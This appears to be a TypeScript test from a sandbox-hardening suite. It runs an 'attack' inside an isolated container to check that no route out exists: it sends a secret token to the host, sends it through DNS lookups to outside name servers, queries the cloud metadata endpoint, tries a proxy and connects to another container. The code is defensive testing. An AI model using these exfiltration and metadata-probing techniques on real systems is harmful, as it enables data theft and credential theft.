import { randomUUID } from 'node:crypto'
import type { Attack } from '../stage/attack.ts'
import { addressOf } from '../stage/containers.ts'
import { listenerAnswer, machineAddresses, startListener } from '../stage/listener.ts'
import { runInside } from '../stage/run-inside.ts'
import type { Stage } from '../stage/stage.ts'
import type { WorldName } from '../stage/worlds.ts'

interface Places {
  readonly secret: string
  readonly addresses: readonly string[]
  /** Of the listener on this machine. */
  readonly port: number
  /** Of the listener in another container. */
  readonly victim: { readonly address: string; readonly port: number } | null
  readonly answer: string
}

/** In the attacker's container. Returns what answered, each place once. */
async function reach({ secret, addresses, port, victim, answer }: Places) {
  const { connect } = await import('node:net')
  const { createSocket } = await import('node:dgram')
  const { Resolver, getServers } = (await import('node:dns')).promises
  const { execFile } = await import('node:child_process')
  const { networkInterfaces } = await import('node:os')
  const won: string[] = []
  const patience = 3_000
  const later = () => new Promise((resolve) => setTimeout(resolve, patience))

  const tcp = (host: string, at: number) =>
    new Promise<void>((resolve) => {
      const socket = connect({ host, port: at, timeout: patience })
      socket.on('connect', () => {
        won.push(`a connection to ${host}:${at}`)
        socket.end(`GET /${secret} HTTP/1.0\r\n\r\n`)
      })
      for (const end of ['timeout', 'error', 'close']) {
        socket.on(end, () => {
          socket.destroy()
          resolve()
        })
      }
    })
  const udp = (host: string, at: number) =>
    new Promise<void>((resolve) => {
      const socket = createSocket('udp4')
      socket.on('error', () => resolve())
      socket.send(secret, at, host, () => {
        socket.close()
        resolve()
      })
    })
  const ask = async (server: string) => {
    const resolver = new Resolver({ timeout: patience, tries: 1 })
    resolver.setServers([server])
    const code = await resolver.resolve4(`${secret}.example.com`).then(
      () => 'an address',
      (error: unknown) => String((error as { readonly code?: unknown }).code),
    )
    const isAnswer = !/REFUSED|TIMEOUT|CANCELLED/.test(code)
    if (isAnswer) won.push(`an answer (${code}) of the name server ${server}`)
  }
  const curl = (...words: readonly string[]) =>
    new Promise<string>((resolve) => {
      const usual = ['-sS', '--max-time', '8', '-w', ' %{http_code} %{http_connect}']
      execFile('curl', [...usual, ...words], (_error, stdout) => {
        if (stdout.includes(answer)) won.push(`the answer to curl ${words.join(' ')}`)
        resolve(stdout)
      })
    })

  const others = Object.values(networkInterfaces()).flatMap((each) => each ?? [])
  if (others.some(({ internal }) => !internal)) won.push('a network interface')
  const proxy = 'http://127.0.0.1:3128'
  const urls = addresses.map((host) => `http://${host}:${port}/${secret}`)
  const metadata = 'http://169.254.169.254/latest/meta-data/'
  const proxied = Promise.all(
    [...urls, metadata].flatMap((url) => [
      curl(url),
      curl('-x', proxy, url),
      curl('-x', proxy, '-p', url),
    ]),
  )
  const nameServers = [...addresses, ...getServers(), '1.1.1.1']
  const direct = [
    ...addresses.flatMap((host) => [tcp(host, port), udp(host, port)]),
    ...nameServers.flatMap((host) => [tcp(host, 53), ask(host)]),
    tcp('169.254.169.254', 80),
    ...(victim === null ? [] : [tcp(victim.address, victim.port)]),
  ]
  await Promise.race([Promise.all([...direct, proxied]), later().then(() => proxied)])
  return { won: [...new Set(won)], refusals: (await proxied).filter((said) => /403/.test(said)) }
}

const victimPort = 45_671

/** Listens for a minute. */
async function wait({ port }: { readonly port: number }) {
  const { spawn } = await import('node:child_process')
  const source = `require('node:net').createServer((socket) => socket.end('victim'))
    .listen(${port}, '0.0.0.0')
    setTimeout(() => process.exit(), 60_000)`
  spawn('node', ['-e', source], { detached: true, stdio: 'ignore' }).unref()
}

async function run({ attacker, victim }: Stage): Promise<readonly string[]> {
  await using listener = await startListener()
  const addresses = await machineAddresses()
  const control = await fetch(`http://127.0.0.1:${listener.port}/`)
  if ((await control.text()) !== listenerAnswer) throw new Error('the listener does not answer')
  const before = listener.arrived.length
  await runInside(victim, wait, { port: victimPort })
  const address = await addressOf(victim.container)
  const { won, refusals } = await runInside(attacker, reach, {
    secret: `exfiltrated-${randomUUID()}`,
    addresses,
    port: listener.port,
    victim: address === null ? null : { address, port: victimPort },
    answer: listenerAnswer,
  })
  if (refusals.length === 0) throw new Error('the proxy refused nothing: it was not tried')
  const arrived = listener.arrived.slice(before).map((each) => each.split('\r\n')[0] ?? '')
  return [...won, ...new Set(arrived.map((each) => `on this machine: ${each}`))]
}

const networkIn = (id: string, world: WorldName): Attack => ({
  id,
  from: 'a worker',
  tries: `reaches this machine, its networks, names and other containers (${world})`,
  world,
  disarmedBy: [
    {
      file: 'src/adapters/docker/template.ts',
      find: 'NetworkMode: order.network ?? noNetwork',
      replace: "NetworkMode: order.network ?? 'bridge'",
    },
    // The server would replace the attacker's container within seconds.
    {
      file: 'src/adapters/docker/boundary.ts',
      find: 'if (networkMode !== wanted.networkMode)',
      replace: "if (networkMode === '')",
    },
  ],
  run,
})

export const network = networkIn('network', 'sealed')
export const proxiedNetwork = networkIn('network-proxied', 'proxied')
